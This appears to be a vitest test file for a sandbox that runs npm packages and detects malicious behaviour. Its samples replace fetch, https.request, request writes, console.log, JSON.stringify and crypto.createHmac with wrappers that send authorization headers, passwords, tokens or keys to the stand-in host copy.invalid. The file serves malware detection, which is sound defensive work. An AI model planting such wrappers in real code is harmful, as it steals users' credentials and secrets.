import { describe, expect, test } from "vitest";

import { Emulator } from "./emulator.ts";
import { detonatePackage } from "./detonate-package.ts";
import type { Detonation } from "./detonation.ts";
import { detonateLimits } from "./limits.ts";
import { createWorld } from "./worlds/worlds.ts";

const world = createWorld("linux-laptop", Date.UTC(2026, 10, 17, 9));
// The stack of a test's thread is a small one.
const emulator = Emulator.create({ ...detonateLimits, stackMaxBytes: 160 * 1024 });

async function load(text: string): Promise<Detonation> {
  const entries = Object.entries({
    "package.json": '{"name":"sample","version":"1.0.0"}',
    "index.js": text,
  }).map(([path, content]) => ({ path, bytes: Buffer.from(content), mode: 0o644 }));
  return await detonatePackage(
    { entries },
    { triggers: ["import"], worlds: [world], isCoverageWanted: false },
    { emulator: await emulator, now: () => performance.now() },
  );
}

function hostsOf({ triggers }: Detonation): ReadonlySet<unknown> {
  const all = triggers.flatMap(({ worlds }) => worlds).flatMap(({ observations }) => observations);
  return new Set(all.filter(({ kind }) => kind === "network").map(({ data }) => data["host"]));
}

function weightsOf({ findings }: Detonation): readonly string[] {
  return findings.map(({ strength, id }) => `${strength} ${id}`);
}

describe("what a package puts in the place of functions that everybody uses", () => {
  test.each([
    [
      "fetch",
      `const own = globalThis.fetch;
       globalThis.fetch = (url, init) => { own("https://copy.invalid/?a=" + btoa(init.headers.authorization)); return own(url, init); };`,
    ],
    [
      "https.request",
      `const https = require("https"), { request } = https;
       https.request = function (options) { request("https://copy.invalid/" + options.headers.authorization.slice(7)).end(); return request.apply(this, arguments); };`,
    ],
    [
      "the body of any request",
      `const { ClientRequest, get } = require("http"), { write } = ClientRequest.prototype;
       ClientRequest.prototype.write = function (part) { if (/password/.test(part)) get("http://copy.invalid/?" + encodeURIComponent(part)); return write.apply(this, arguments); };`,
    ],
    [
      "what is printed",
      `const own = console.log;
       console.log = (...words) => { if (/token/.test(words)) fetch("https://copy.invalid/", { method: "POST", body: String(words) }); own(...words); };`,
    ],
    [
      "JSON.stringify",
      `const own = JSON.stringify;
       JSON.stringify = (value, ...rest) => { const text = own(value, ...rest); if (value.password) fetch("https://copy.invalid/", { method: "POST", body: text }); return text; };`,
    ],
    [
      "crypto.createHmac",
      `const crypto = require("crypto"), { createHmac } = crypto;
       crypto.createHmac = (kind, key) => { fetch("https://copy.invalid/", { method: "POST", body: String(key) }); return createHmac(kind, key); };`,
    ],
  ])("is used, and %s passes on what is secret", async (_, text) => {
    const detonation = await load(text);

    expect(hostsOf(detonation)).toContain("copy.invalid");
    expect(weightsOf(detonation)).toContain("decisive planted-secret-sent");
  });

  test("is used, and speaks for nothing where it only measures", async () => {
    const detonation = await load(
      `const https = require("https"), own = https.request; let count = 0;
       https.request = function () { count += 1; return own.apply(this, arguments); };`,
    );

    expect(hostsOf(detonation)).toEqual(new Set(["service.ledger-web.example"]));
    expect(weightsOf(detonation)).toEqual([]);
  });

  test("is not used where nothing was replaced", async () => {
    const detonation = await load(`const { createHmac } = require("crypto"), https = require("https");
       exports.sign = (text) => createHmac("sha256", "k").update(text).digest("hex"); exports.ask = https.get;`);

    expect(hostsOf(detonation)).toEqual(new Set());
  });

  test("may fail without ending the run", async () => {
    const { triggers } = await load(`globalThis.fetch = () => { throw new Error("not now"); };`);

    expect(triggers.flatMap(({ worlds }) => worlds).map(({ ended }) => ended)).toEqual(["rest"]);
  });
});
